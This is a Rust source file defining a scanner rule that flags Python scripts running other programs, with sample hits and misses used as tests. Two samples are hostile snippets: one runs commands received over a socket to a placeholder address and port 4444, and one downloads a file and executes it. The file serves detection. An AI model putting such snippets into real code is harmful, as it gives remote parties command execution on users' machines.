//! `python-subprocess`: other programs, without a shell.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::operation::{Act, Origins, ShellUse};
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "python-subprocess",
    title: "Python runs another program",
    severity: Severity::Info,
    confidence: Confidence::High,
    why: "What the program does is not seen here; most skills that do work run some.",
    fix: "Check which programs are run, and with which arguments.",
    references: &["CWE-78"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['date'], shell=False)\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess as sp\nfrom subprocess import Popen as P\nsp.check_output(['date'])\nP(['date'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import socket, subprocess\ns = socket.create_connection(('192.0.2.7', 4444))\nsubprocess.run(s.recv(1024).decode().split())\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://files.example.com/u', '/tmp/u')\nsubprocess.run(['/tmp/u'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import asyncio\nasync def go():\n    await asyncio.create_subprocess_exec('date')\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import subprocess\nflag = 0\nsubprocess.run(['date'], shell=flag)\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nprint(subprocess.getoutput('id'))\n",
        ),
        Sample::File("scripts/a.py", "job.run(['date'])\n"),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    for operation in super::operations(unit) {
        let Act::Execute {
            program,
            command,
            shell: ShellUse::No,
            ..
        } = &operation.act
        else {
            continue;
        };
        if !operation.callee.starts_with("subprocess.") && !operation.callee.starts_with("asyncio.")
        {
            continue;
        }
        let raised = reporter.raise_flow(operation.span, &command.way);
        if command.text.is_some() && command.origins.has(Origins::NETWORK) {
            // Fixed words that came over the network: the file they name did.
            raised
                .message("Python runs a file that it downloads")
                .severity(Severity::Error);
        } else if let Some(program) = program {
            raised.message(format!("Python runs the program `{program}`"));
        } else if command.text.is_none() && command.origins.has(Origins::NETWORK) {
            raised
                .message("Python runs a program that it is told over the network")
                .severity(Severity::Error)
                .confidence(Confidence::Medium);
        }
    }
}
